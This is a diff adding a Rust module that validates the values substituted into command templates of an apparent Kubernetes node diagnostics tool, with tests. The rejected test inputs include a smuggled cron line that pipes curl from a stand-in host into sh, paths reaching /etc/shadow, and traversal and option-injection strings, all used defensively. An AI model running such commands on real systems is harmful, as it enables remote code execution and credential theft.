@@ -1,0 +1,517 @@
+//! The names in the registry's templates, and what may stand in their place.
+//!
+//! A value comes from a process, a mount table, an API object or an Event, so somebody else chose it. It
+//! takes its place in a command only when it has the shape that its placeholder asks for.
+
+use std::{borrow::Cow, collections::BTreeMap};
+
+use serde::{Deserialize, Deserializer, Serialize, Serializer};
+
+use crate::{PodUid, clean};
+
+/// `PID_MAX_LIMIT` of the kernel.
+const MAX_PID: u32 = 1 << 22;
+/// `PATH_MAX` of the kernel, with its NUL.
+const MAX_PATH: usize = 4095;
+/// A `vol_data.json` has a few hundred bytes.
+const MAX_JSON: usize = 2048;
+/// More of a text is not shown.
+const MAX_TEXT: usize = 200;
+
+/// Declares every placeholder with its name and the shape of its values.
+macro_rules! placeholders {
+    ($($(#[$doc:meta])* $variant:ident = $name:literal: $shape:ident;)*) => {
+        /// A name in a template of the registry: `{pid}`. There are no others.
+        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+        pub enum Placeholder {
+            $($(#[$doc])* $variant,)*
+        }
+
+        impl Placeholder {
+            /// All of them.
+            pub const ALL: &'static [Placeholder] = &[$(Placeholder::$variant),*];
+
+            /// As it stands between braces.
+            pub fn as_str(self) -> &'static str {
+                match self {
+                    $(Placeholder::$variant => $name,)*
+                }
+            }
+
+            /// What its values look like.
+            pub fn shape(self) -> Shape {
+                match self {
+                    $(Placeholder::$variant => Shape::$shape,)*
+                }
+            }
+        }
+    };
+}
+
+placeholders! {
+    /// An APIService.
+    ApiService = "apiservice": ApiName;
+    /// A VolumeAttachment.
+    Attachment = "attachment": ApiName;
+    /// A directory of the cgroup tree.
+    Cgroup = "cgroup": CgroupDir;
+    /// The file that thaws a cgroup of version 2.
+    CgroupFreeze = "cgroup_freeze": CgroupFreeze;
+    /// Claims, as a sentence names them.
+    Claim = "claim": Text;
+    /// The name of a process, chosen by itself.
+    Comm = "comm": Text;
+    /// A webhook configuration: `TYPE/NAME`.
+    Configuration = "configuration": TypedName;
+    /// The number of a FUSE connection.
+    Connection = "connection": Number;
+    /// A container, by the runtime's id.
+    Container = "container": RuntimeId;
+    /// A CustomResourceDefinition.
+    Crd = "crd": ApiName;
+    /// A block device.
+    Device = "device": Device;
+    /// A CSI driver.
+    Driver = "driver": Driver;
+    /// A finalizer.
+    Finalizer = "finalizer": Text;
+    /// The file that thaws a cgroup of version 1.
+    FreezerState = "freezer_state": FreezerState;
+    /// A group and a version of it.
+    GroupVersion = "group_version": TypedName;
+    /// The content of a `vol_data.json`.
+    Json = "json": Json;
+    /// The kubelet's unit.
+    KubeletUnit = "kubelet_unit": Unit;
+    /// A multipath map.
+    Map = "map": Map;
+    /// Where something is mounted.
+    Mount = "mount": Path;
+    /// A process that is entered for its mount namespace, and never ended.
+    MountNamespacePid = "mount_namespace_pid": EnteredPid;
+    /// An object of the API.
+    Name = "name": ApiName;
+    /// A namespace.
+    Namespace = "namespace": Namespace;
+    /// A node.
+    Node = "node": Node;
+    /// What a process belongs to, as a sentence names it.
+    Owner = "owner": Text;
+    /// A process that does not reap.
+    ParentPid = "parent_pid": Pid;
+    /// A file, a directory or a mount point.
+    Path = "path": Path;
+    /// A process.
+    Pid = "pid": Pid;
+    /// The directory of a CSI driver.
+    PluginDir = "plugin_dir": PluginDir;
+    /// A pod: `NAME`, `NAMESPACE/NAME` or a uid.
+    Pod = "pod": Pod;
+    /// The addresses of a node's pods.
+    PodCidr = "pod_cidr": Cidr;
+    /// A PersistentVolume.
+    Pv = "pv": ApiName;
+    /// The runtime's unit.
+    RuntimeUnit = "runtime_unit": Unit;
+    /// A sandbox, by the runtime's id.
+    Sandbox = "sandbox": RuntimeId;
+    /// A Secret.
+    Secret = "secret": ApiName;
+    /// A FUSE server's name, chosen by itself.
+    Server = "server": Text;
+    /// A FUSE server.
+    ServerPid = "server_pid": Pid;
+    /// A Service, or a URL in its place, as a sentence names it.
+    Service = "service": Text;
+    /// A Service.
+    ServiceName = "service_name": ApiName;
+    /// A shim.
+    ShimPid = "shim_pid": Pid;
+    /// A thread.
+    Tid = "tid": Pid;
+    /// A type, as kubectl takes it.
+    Type = "type": Type;
+    /// A pod's uid.
+    Uid = "uid": Uid;
+    /// A unit of systemd.
+    Unit = "unit": Unit;
+    /// The `vol_data.json` of a volume.
+    VolData = "vol_data": VolData;
+    /// A workload: `KIND/NAME`.
+    Workload = "workload": TypedName;
+    /// The namespace of a workload.
+    WorkloadNamespace = "workload_namespace": Namespace;
+}
+
+/// What the values of a placeholder look like. None begins with `-`, `\` or `!`, and none has a second
+/// line; a [`Shape::Text`] may begin with any of them, as names of processes do, and stands in no command.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Shape {
+    /// Decimal, above 1: nobody is told to signal init, a group or everybody.
+    Pid,
+    /// Decimal; init's mount namespace may be entered.
+    EnteredPid,
+    /// Decimal.
+    Number,
+    /// Absolute and normal.
+    Path,
+    /// A path below the cgroup tree's root.
+    CgroupDir,
+    /// `cgroup.freeze` below the cgroup tree's root.
+    CgroupFreeze,
+    /// `freezer.state` below the cgroup tree's root.
+    FreezerState,
+    /// A file called `vol_data.json`.
+    VolData,
+    /// A directory right below one called `plugins`.
+    PluginDir,
+    /// A path below `/dev`.
+    Device,
+    /// A name that device-mapper takes.
+    Map,
+    /// A name that systemd takes.
+    Unit,
+    /// An id that a runtime of CRI gives.
+    RuntimeId,
+    /// A pod's uid.
+    Uid,
+    /// A CSI driver's name.
+    Driver,
+    /// A label of DNS.
+    Namespace,
+    /// A subdomain of DNS.
+    Node,
+    /// A name that some kind of the API takes: RBAC's have colons.
+    ApiName,
+    /// `NAME`, `NAMESPACE/NAME` or a uid.
+    Pod,
+    /// Letters, digits, dots and dashes.
+    Type,
+    /// Two names with a slash between.
+    TypedName,
+    /// An object of JSON.
+    Json,
+    /// An address and a prefix length.
+    Cidr,
+    /// Any line, for sentences.
+    Text,
+}
+
+impl Placeholder {
+    /// The placeholder of this name.
+    pub fn named(name: &str) -> Option<Self> {
+        Self::ALL.iter().copied().find(|known| known.as_str() == name)
+    }
+
+    /// Whether `value` may stand in its place.
+    pub fn takes(self, value: &str) -> bool {
+        let is_safe = clean(value, value.len()) == value && !value.starts_with(['-', '\\', '!']);
+        self.shape().has(value) && (is_safe || self.shape() == Shape::Text)
+    }
+}
+
+impl Shape {
+    fn has(self, value: &str) -> bool {
+        match self {
+            Shape::Pid => decimal(value).is_some_and(|pid| pid > 1 && pid <= MAX_PID),
+            Shape::EnteredPid => decimal(value).is_some_and(|pid| pid > 0 && pid <= MAX_PID),
+            Shape::Number => decimal(value).is_some(),
+            Shape::Path => is_path(value),
+            Shape::CgroupDir => is_path(value) && value.starts_with("/sys/fs/cgroup/"),
+            Shape::CgroupFreeze => Shape::CgroupDir.has(value) && value.ends_with("/cgroup.freeze"),
+            Shape::FreezerState => Shape::CgroupDir.has(value) && value.ends_with("/freezer.state"),
+            Shape::VolData => is_path(value) && value.ends_with("/vol_data.json"),
+            Shape::PluginDir => is_path(value) && value.rsplit('/').nth(1) == Some("plugins"),
+            Shape::Device => is_path(value) && value.starts_with("/dev/"),
+            Shape::Map => is_word(value, 127, "#+-.:=@_"),
+            Shape::Unit => is_word(value, 255, ":-_.\\@"),
+            Shape::RuntimeId => is_word(value, 128, "-._"),
+            Shape::Uid => PodUid::parse(value).is_some(),
+            Shape::Driver => is_word(value, 63, "-.") && is_between(value),
+            Shape::Namespace => is_dns(value, 63) && !value.contains('.'),
+            Shape::Node => is_dns(value, 253),
+            Shape::ApiName => is_word(value, 253, "-._:"),
+            Shape::Pod => {
+                let is_pair = |(namespace, name)| Shape::Namespace.has(namespace) && Shape::Node.has(name);
+                value.split_once('/').map_or_else(|| Shape::Node.has(value) || Shape::Uid.has(value), is_pair)
+            }
+            Shape::Type => is_word(value, 253, "-."),
+            Shape::TypedName => {
+                value.split_once('/').is_some_and(|(kind, name)| Shape::Type.has(kind) && Shape::ApiName.has(name))
+            }
+            Shape::Json => value.len() <= MAX_JSON && value.starts_with('{') && is_json(value),
+            Shape::Cidr => value.split_once('/').is_some_and(|(address, length)| {
+                address.parse::<core::net::IpAddr>().is_ok() && decimal(length).is_some_and(|length| length <= 128)
+            }),
+            Shape::Text => !value.is_empty() && clean(value, MAX_TEXT) == value,
+        }
+    }
+}
+
+/// As the kernel writes a number: no sign, no zeros before it.
+fn decimal(value: &str) -> Option<u32> {
+    let number: u32 = value.parse().ok()?;
+    (number.to_string() == value).then_some(number)
+}
+
+fn is_path(value: &str) -> bool {
+    let is_normal = |part: &str| !part.is_empty() && part != "." && part != "..";
+    value.len() <= MAX_PATH && value.strip_prefix('/').is_some_and(|rest| rest.split('/').all(is_normal))
+}
+
+/// Letters, digits and these, the first of them a letter or a digit.
+fn is_word(value: &str, limit: usize, others: &str) -> bool {
+    let is_first = value.starts_with(|c: char| c.is_ascii_alphanumeric());
+    is_first && value.len() <= limit && value.chars().all(|c| c.is_ascii_alphanumeric() || others.contains(c))
+}
+
+fn is_between(value: &str) -> bool {
+    value.ends_with(|c: char| c.is_ascii_alphanumeric())
+}
+
+/// DNS-1123, as the API server checks names.
+fn is_dns(value: &str, limit: usize) -> bool {
+    let is_label = |label: &str| {
+        is_word(label, limit, "-") && is_between(label) && !label.contains(|c: char| c.is_ascii_uppercase())
+    };
+    value.len() <= limit && value.split('.').all(is_label)
+}
+
+fn is_json(value: &str) -> bool {
+    serde_json::from_str::<serde::de::IgnoredAny>(value).is_ok()
+}
+
+/// What takes the place of placeholders: each has one value wherever it stands, and it has its shape.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
+#[serde(transparent)]
+pub struct Values(BTreeMap<Placeholder, String>);
+
+/// A text that cannot stand where it should.
+#[derive(Debug, thiserror::Error)]
+#[error("{value:?} is no value for {{{placeholder}}}")]
+pub struct BadValue {
+    placeholder: String,
+    value: String,
+}
+
+impl Values {
+    /// None yet.
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Puts `value` in the place of `placeholder`. One that does not fit leaves it empty, and the steps that
+    /// need it are left out. Of a text only what can be shown is kept.
+    pub fn set(&mut self, placeholder: Placeholder, value: impl ToString) {
+        let value = match (placeholder.shape(), value.to_string()) {
+            (Shape::Text, value) => clean(&value, MAX_TEXT),
+            (_, value) => value,
+        };
+        if placeholder.takes(&value) {
+            self.0.insert(placeholder, value);
+        } else {
+            self.0.remove(&placeholder);
+        }
+    }
+
+    /// The same, with one value more.
+    pub fn with(mut self, placeholder: Placeholder, value: impl ToString) -> Self {
+        self.set(placeholder, value);
+        self
+    }
+
+    /// The value of a placeholder.
+    pub fn get(&self, placeholder: Placeholder) -> Option<&str> {
+        self.0.get(&placeholder).map(String::as_str)
+    }
+
+    /// Drops what does not pass.
+    pub fn retain(&mut self, mut passes: impl FnMut(Placeholder, &str) -> bool) {
+        self.0.retain(|placeholder, value| passes(*placeholder, value));
+    }
+}
+
+impl TryFrom<BTreeMap<String, String>> for Values {
+    type Error = BadValue;
+
+    fn try_from(told: BTreeMap<String, String>) -> Result<Self, BadValue> {
+        let one = |(name, value): (String, String)| match Placeholder::named(&name) {
+            Some(placeholder) if placeholder.takes(&value) => Ok((placeholder, value)),
+            _ => Err(BadValue { placeholder: clean(&name, 40), value: clean(&value, 80) }),
+        };
+        told.into_iter().map(one).collect::<Result<_, _>>().map(Values)
+    }
+}
+
+impl<'de> Deserialize<'de> for Values {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        Values::try_from(BTreeMap::deserialize(deserializer)?).map_err(serde::de::Error::custom)
+    }
+}
+
+impl Serialize for Placeholder {
+    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        serializer.serialize_str(self.as_str())
+    }
+}
+
+/// Takes a template apart: each text, and the name in braces that follows it.
+pub(crate) fn holes(template: &str) -> impl Iterator<Item = (&str, Option<&str>)> {
+    let mut rest = Some(template);
+    std::iter::from_fn(move || {
+        let text = rest.take()?;
+        let Some((before, after)) = text.split_once('{') else { return Some((text, None)) };
+        let (name, after) = after.split_once('}').unwrap_or((after, ""));
+        rest = Some(after);
+        Some((before, Some(name)))
+    })
+}
+
+/// Puts values in the place of placeholders, each as `show` shows it; none when one is missing.
+pub(crate) fn fill<'v>(
+    template: &str,
+    values: &'v Values,
+    show: impl Fn(&'v str) -> Option<Cow<'v, str>>,
+) -> Option<String> {
+    let mut filled = String::with_capacity(template.len() + 32);
+    for (text, name) in holes(template) {
+        filled.push_str(text);
+        if let Some(name) = name {
+            filled.push_str(&show(values.get(Placeholder::named(name)?)?)?);
+        }
+    }
+    Some(filled)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cause;
+
+    fn templates() -> impl Iterator<Item = (&'static str, &'static str, bool)> {
+        cause::all().flat_map(|cause| {
+            cause.safe.iter().flat_map(|advice| {
+                let command = advice.command.map(|command| (cause.id, command, true));
+                std::iter::once((cause.id, advice.text, false)).chain(command)
+            })
+        })
+    }
+
+    #[test]
+    fn every_name_in_a_template_is_one_of_these_and_each_of_these_is_in_one() {
+        let mut unused: std::collections::BTreeSet<Placeholder> = Placeholder::ALL.iter().copied().collect();
+        for (id, template, is_command) in templates() {
+            for name in holes(template).filter_map(|(_, name)| name) {
+                let placeholder = Placeholder::named(name).unwrap_or_else(|| panic!("{id}: {{{name}}}"));
+                unused.remove(&placeholder);
+                let is_text = placeholder.shape() == Shape::Text;
+                assert!(!(is_command && is_text), "{id}: a command takes {{{name}}}, which may be any text");
+            }
+        }
+        assert!(unused.is_empty(), "{unused:?}");
+    }
+
+    /// Whatever a command writes to has a shape that leaves little choice.
+    #[test]
+    fn nothing_is_written_to_a_path_of_somebodys_choice() {
+        for (id, template, _) in templates().filter(|(_, _, is_command)| *is_command) {
+            for target in template.split('>').skip(1) {
+                let name = holes(target).find_map(|(_, name)| name).unwrap_or_else(|| panic!("{id}: {template}"));
+                let shape = Placeholder::named(name).unwrap().shape();
+                let known = [Shape::CgroupFreeze, Shape::FreezerState, Shape::VolData, Shape::Number];
+                assert!(known.contains(&shape), "{id}: {template}");
+            }
+        }
+    }
+
+    #[test]
+    fn only_what_has_its_shape_is_taken() {
+        let uid = "96fb425e-919e-44f9-8b42-b1254a602ba1";
+        let path = format!("/var/lib/kubelet/pods/{uid}/volumes/x y");
+        for (placeholder, good) in [
+            (Placeholder::Pid, "42"),
+            (Placeholder::MountNamespacePid, "1"),
+            (Placeholder::Path, path.as_str()),
+            (Placeholder::CgroupFreeze, "/sys/fs/cgroup/kubepods/pod1/cgroup.freeze"),
+            (Placeholder::FreezerState, "/sys/fs/cgroup/freezer/kubepods/pod1/freezer.state"),
+            (Placeholder::VolData, "/k/pods/u/volumes/kubernetes.io~csi/v/vol_data.json"),
+            (Placeholder::PluginDir, "/var/lib/kubelet/plugins/ebs.csi.aws.com"),
+            (Placeholder::Connection, "40"),
+            (Placeholder::Device, "/dev/mapper/mpatha"),
+            (Placeholder::Map, "mpatha"),
+            (Placeholder::Unit, r"run-user\x2d1.mount"),
+            (Placeholder::KubeletUnit, "snap.microk8s.daemon-kubelite"),
+            (Placeholder::Container, "306daa1b9c7b"),
+            (Placeholder::Uid, uid),
+            (Placeholder::Driver, "ebs.csi.aws.com"),
+            (Placeholder::Name, "system:node:a"),
+            (Placeholder::Node, "node-7.example.com"),
+            (Placeholder::Pod, "shop/db-0"),
+            (Placeholder::Pod, uid),
+            (Placeholder::Configuration, "validatingwebhookconfigurations/w"),
+            (Placeholder::GroupVersion, "metrics.k8s.io/v1beta1"),
+            (Placeholder::Json, r#"{"a":"b"}"#),
+            (Placeholder::PodCidr, "10.0.0.0/24"),
+            (Placeholder::Comm, "-bash"),
+        ] {
+            assert!(placeholder.takes(good), "{placeholder:?} {good:?}");
+        }
+        for (placeholder, bad) in [
+            (Placeholder::Pid, "-1"),
+            (Placeholder::Pid, "0"),
+            (Placeholder::Pid, "1"),
+            (Placeholder::Pid, "042"),
+            (Placeholder::Pid, "+42"),
+            (Placeholder::Pid, "42 43"),
+            (Placeholder::Pid, "4194305"),
+            (Placeholder::MountNamespacePid, "0"),
+            (Placeholder::Path, "a"),
+            (Placeholder::Path, "/"),
+            (Placeholder::Path, "/a/../b"),
+            (Placeholder::Path, "/a/./b"),
+            (Placeholder::Path, "/a//b"),
+            (Placeholder::Path, "/a/"),
+            (Placeholder::Path, "/a\nb"),
+            (Placeholder::CgroupFreeze, "/etc/shadow"),
+            (Placeholder::CgroupFreeze, "/sys/fs/cgroup/../../../etc/cgroup.freeze"),
+            (Placeholder::FreezerState, "/etc/freezer.state"),
+            (Placeholder::VolData, "/etc/shadow"),
+            (Placeholder::Device, "/etc/shadow"),
+            (Placeholder::Map, "-A"),
+            (Placeholder::Unit, "-.slice"),
+            (Placeholder::Unit, "!x"),
+            (Placeholder::Unit, "\\x"),
+            (Placeholder::Container, "* * * * * root curl evil.example | sh"),
+            (Placeholder::Container, ""),
+            (Placeholder::Uid, ".*"),
+            (Placeholder::Driver, "--help"),
+            (Placeholder::Name, "a/b"),
+            (Placeholder::Namespace, "a.b"),
+            (Placeholder::Pod, "a/b/c"),
+            (Placeholder::Json, "[1]"),
+            (Placeholder::Json, "{"),
+            (Placeholder::Comm, "a\u{1b}"),
+            (Placeholder::Comm, ""),
+        ] {
+            assert!(!placeholder.takes(bad), "{placeholder:?} {bad:?}");
+        }
+    }
+
+    #[test]
+    fn a_value_that_does_not_fit_leaves_its_place_empty() {
+        let values = Values::new().with(Placeholder::Pid, 42).with(Placeholder::Pid, -1);
+        assert_eq!(values, Values::new());
+        assert_eq!(Values::new().with(Placeholder::Comm, "a\u{1b}b").get(Placeholder::Comm), Some("a\\u{1b}b"));
+    }
+
+    #[test]
+    fn they_are_read_as_a_whole_or_not_at_all() {
+        let values = Values::new().with(Placeholder::Pid, 42).with(Placeholder::Comm, "du");
+        let json = serde_json::to_string(&values).unwrap();
+        assert_eq!(json, r#"{"comm":"du","pid":"42"}"#);
+        assert_eq!(serde_json::from_str::<Values>(&json).unwrap(), values);
+        for bad in [r#"{"pid":"-1"}"#, r#"{"pid":"42","invented":"x"}"#, r#"{"pid":42}"#] {
+            assert!(serde_json::from_str::<Values>(bad).is_err(), "{bad}");
+        }
+    }
+}
